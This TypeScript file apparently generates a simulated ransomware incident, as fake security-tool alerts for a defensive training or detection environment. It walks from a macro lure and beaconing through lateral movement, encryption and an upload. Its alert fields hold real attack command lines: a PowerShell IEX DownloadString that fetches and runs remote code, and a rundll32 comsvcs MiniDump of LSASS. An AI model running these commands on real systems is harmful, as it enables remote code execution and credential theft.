import { attacker, hosts, resolver, staff, stranger, type Host } from '../estate.ts'
import type { Arrival, Moment, Plan } from '../plan.ts'
import type { Random } from '../random.ts'
import { crowdstrike } from '../tools/crowdstrike.ts'
import { elastic } from '../tools/elastic.ts'
import { evidence, graph } from '../tools/graph.ts'
import { eve, flowId } from '../tools/suricata.ts'
import { wazuh } from '../tools/wazuh.ts'
import * as signs from './ransomware-signs.ts'
import { ransomwareWork } from './ransomware-work.ts'

const { dispatch, finance, files, print, planning } = hosts
const reached = [finance, files, print, planning]
const victim = staff[0]!
const deployer = 'svc-deploy'

type Make = { random: Random; moment: Moment }

/** Attackers come in by a delivery notice, wait, and encrypt five hosts. */
export function ransomware(random: Random, moment: Moment): Plan {
  const make = { random, moment }
  const beacons = [
    ...beaconing(make, dispatch, [-336, -252]),
    ...beaconing(make, finance, [-262, -190]),
    ...beaconing(make, files, [-255, -182]),
  ]
  const entry = [macro(make), fetched(make), persistence(make), ...lures(make)]
  return {
    arrivals: [...entry, ...beacons, dump(make), ...spread(make), ...impact(make), upload(make)],
    steps: ransomwareWork(),
  }
}

function macro({ random, moment }: Make, at = -342): Arrival {
  const more = { ParentCommandLine: 'WINWORD.EXE /n delivery-notice.docm' }
  const said = { detection: signs.macro, host: dispatch, account: victim.account, random, sha256: signs.loader, more }
  return { at, connector: 'crowdstrike', payload: crowdstrike(moment(at), said) }
}

function fetched({ random, moment }: Make, at = -341): Arrival {
  const from = { ip: dispatch.ip, port: 51_544 }
  const to = { ip: attacker.loaderAddress, port: 80 }
  const flow = { id: flowId(random), from, to, proto: 'TCP' as const, app: 'http' }
  const http = { hostname: attacker.loaderDomain, url: '/u/notice.ps1', http_method: 'GET', status: 200 }
  return { at, connector: 'suricata', payload: eve(moment(at), { signature: signs.fetched, flow, more: { http } }) }
}

function persistence({ random, moment }: Make, at = -338): Arrival {
  const commandLine = `powershell -nop -c IEX(New-Object Net.WebClient).DownloadString('${attacker.loaderUrl}')`
  const eventdata = { image: 'C:\\\\Windows\\\\System32\\\\schtasks.exe', commandLine, targetUserName: victim.account }
  const system = { computer: dispatch.name, message: 'A scheduled task "OneSync Update" was created.' }
  const said = { rule: signs.scheduled, host: dispatch, random, more: { data: { win: { system, eventdata } } } }
  return { at, connector: 'wazuh', payload: wazuh(moment(at), said) }
}

function lures({ random, moment }: Make): Arrival[] {
  return [0, 4, 19].map((place, index) => {
    const at = -335 + index
    const mail = {
      from: attacker.lureSender,
      to: staff[place]!.mail,
      senderIp: attacker.mailRelay,
      subject: 'Delivery notice 88-2071',
    }
    const found = [evidence.message(mail), evidence.file('delivery-notice.docm', signs.loader)]
    return {
      at,
      connector: 'microsoft-graph',
      payload: graph(moment(at), { rule: signs.lure, random, evidence: found }),
    }
  })
}

/** One long conversation with the resolver: one alert, which repeats until the host is cut off. */
function beaconing({ random, moment }: Make, host: Host, [start, end]: readonly [number, number]): Arrival[] {
  const make = asking(random, host)
  const times = Array.from({ length: Math.floor((end - start) / 5) }, (_, index) => start + index * 5 + random.next())
  return times.map((at) => ({ at, connector: 'suricata', payload: make(moment(at)) }))
}

function asking(random: Random, host: Host): (at: Date) => object {
  const from = { ip: host.ip, port: random.between(49_152, 65_000) }
  const flow = { id: flowId(random), from, to: { ip: resolver, port: 53 }, proto: 'UDP' as const, app: 'dns' }
  const dns = { query: [{ type: 'query', rrname: attacker.beaconDomain, rrtype: 'TXT' }] }
  return (at) => eve(at, { signature: signs.beacon, flow, more: { dns } })
}

function dump({ random, moment }: Make, at = -298): Arrival {
  const command = 'rundll32.exe comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.dmp full'
  const reason = `file event with process rundll32.exe, by ${victim.account} on ${dispatch.name.toLowerCase()} created critical alert LSASS Memory Dump Creation.`
  const more = { process: { name: 'rundll32.exe', command_line: command }, file: { name: 'd.dmp' } }
  const said = { rule: signs.lsass, host: dispatch, account: victim.account, random, reason, more }
  return { at, connector: 'elastic-security', payload: elastic(moment(at), said) }
}

const spread = (make: Make): Arrival[] =>
  reached.flatMap((host, index) => [copied(make, host, -272 + index * 6), installed(make, host, -271 + index * 6)])

function copied({ random, moment }: Make, host: Host, at: number): Arrival {
  const reason = `process event with process svcupd.exe, by ${deployer} on ${host.name.toLowerCase()} created high alert Remote Execution via File Shares.`
  const more = { process: { name: 'svcupd.exe', hash: { sha256: signs.locker } }, source: { ip: dispatch.ip } }
  const said = { rule: signs.lateral, host, account: deployer, random, reason, more }
  return { at, connector: 'elastic-security', payload: elastic(moment(at), said) }
}

function installed({ random, moment }: Make, host: Host, at: number): Arrival {
  const system = { computer: host.name, message: `A service was installed: \\\\${host.name}\\ADMIN$\\svcupd.exe` }
  const hashes = `SHA256=${signs.locker.toUpperCase()}`
  const eventdata = { subjectUserName: deployer, sourceIp: dispatch.ip, image: 'C:\\\\Windows\\\\svcupd.exe', hashes }
  const said = { rule: signs.serviceAdded, host, random, more: { data: { win: { system, eventdata } } } }
  return { at, connector: 'wazuh', payload: wazuh(moment(at), said) }
}

function impact({ random, moment }: Make): Arrival[] {
  const gone = [files, print, planning, finance, dispatch].map((host, index): Arrival => {
    const said = { detection: signs.shadows, host, account: deployer, random, sha256: signs.locker }
    return { at: -205 + index, connector: 'crowdstrike', payload: crowdstrike(moment(-205 + index), said) }
  })
  const paths = ['finance\\\\budget.xlsx', 'dispatch\\\\week.xlsx', 'contracts\\\\hub-north.pdf']
  const locked = paths.map((path, index): Arrival => {
    const syscheck = { path: `d:\\\\shares\\\\${path}.locked`, event: 'added', sha256_after: random.hex(64) }
    const said = { rule: signs.renamed, host: files, random, location: 'syscheck', more: { syscheck } }
    return { at: -201 + index, connector: 'wazuh', payload: wazuh(moment(-201 + index), said) }
  })
  return [...gone, ...locked]
}

/** After the containment, and nobody has looked at it yet. */
function upload({ random, moment }: Make, at = -14): Arrival {
  const to = { ip: stranger(random), port: 443 }
  const flow = { id: flowId(random), from: { ip: planning.ip, port: 50_112 }, to, proto: 'TCP' as const, app: 'tls' }
  const tls = { sni: 'drop.cdn-sync.example.org' }
  return { at, connector: 'suricata', payload: eve(moment(at), { signature: signs.upload, flow, more: { tls } }) }
}

/** While one looks: a sixth host asks for the same domain. */
export const sixthHost = (random: Random, at: Date): object => asking(random, hosts.bookings)(at)
